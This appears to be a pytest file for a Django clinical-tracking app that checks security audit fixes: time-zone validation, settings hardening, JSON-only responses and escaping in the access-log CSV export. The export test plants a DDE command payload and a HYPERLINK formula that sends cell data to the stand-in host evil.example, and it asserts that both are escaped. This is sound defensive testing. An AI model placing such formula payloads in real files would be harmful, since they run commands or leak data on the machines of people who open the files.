"""Findings 9 and 13 of issue 18: a bad time-zone name is a clear input error (CLI exit 2, API 400), and
the access-log CSV never hands a spreadsheet a formula."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import uuid

import pytest
from django.utils import timezone

from tests.api.conftest import client_for
from tests.conftest import verified_client
from tests.support.processes import ROOT

SCHEDULE = {"now": "2026-03-01T10:00:00+01:00", "patient": {"status": "active"}, "treatments": [], "scans": []}


@pytest.mark.parametrize("zone", ["Europe", "x" * 256, "Europe/Amsterdam\x00"])
def test_the_cli_refuses_a_bad_time_zone_with_exit_2(zone):
    done = subprocess.run([sys.executable, "-m", "bmtrack.clinical", "schedule"], cwd=ROOT, capture_output=True,
                          text=True, timeout=30, input=json.dumps({**SCHEDULE, "time_zone": zone}))
    assert done.returncode == 2, done.stderr
    assert "time_zone" in json.loads(done.stdout)["error"]


@pytest.mark.django_db
@pytest.mark.parametrize("zone", ["Europe", "x" * 256])
def test_the_schedule_calculator_answers_400_to_a_bad_time_zone(bob, zone):
    response = client_for(bob).post("/api/v1/calculators/schedule", {**SCHEDULE, "time_zone": zone}, format="json")
    assert response.status_code == 400 and "time_zone" in response.json()


@pytest.mark.django_db
def test_the_access_log_export_writes_formulas_as_text(client):
    from bmtrack.accounts.models import User
    from bmtrack.core.models import AccessLog

    AccessLog.objects.create(at=timezone.now(), username="=cmd|' /C calc'!A0", patient_public_id=uuid.uuid4(),
                             action="view", method="GET", path="/patients/", ip_address="127.0.0.1",
                             user_agent='=HYPERLINK("http://evil.example/?"&A1,"click")')
    root = User.objects.create_superuser("root", "root@example.org", "a long enough password")
    verified_client(client, root)
    response = client.post("/admin/core/accesslog/", {"action": "export_csv",
                                                      "_selected_action": list(AccessLog.objects.values_list("pk",
                                                                                                             flat=True))})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[1][1].startswith("'=") and rows[1][-1].startswith("'=HYPERLINK")
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)


@pytest.mark.parametrize(("variable", "value", "message"), [
    ("SITE_URL", "http://bmtrack.hospital.example", "SITE_URL must be an https://"),
    ("ALLOWED_HOSTS", "*", "ALLOWED_HOSTS must name"),
    ("BMTRACK_ADMIN_REQUIRES_2FA", "false", "BMTRACK_ADMIN_REQUIRES_2FA cannot be off"),
])
def test_production_refuses_settings_that_weaken_it(variable, value, message):
    """Finding 19: these were accepted silently with BMTRACK_HTTPS on."""
    import os

    env = {**os.environ, "BMTRACK_HTTPS": "true", "SECRET_KEY": "p" * 60, "ALLOWED_HOSTS": "bmtrack.hospital.example",
           "SITE_URL": "https://bmtrack.hospital.example", variable: value}
    done = subprocess.run([sys.executable, "manage.py", "check"], cwd=ROOT, env=env, capture_output=True, text=True,
                          timeout=60)
    assert done.returncode != 0 and message in done.stderr


@pytest.mark.django_db
def test_the_api_answers_json_only(bob):
    response = client_for(bob).get("/api/v1/patients", HTTP_ACCEPT="text/html")
    assert response.status_code == 406 or not response["Content-Type"].startswith("text/html")
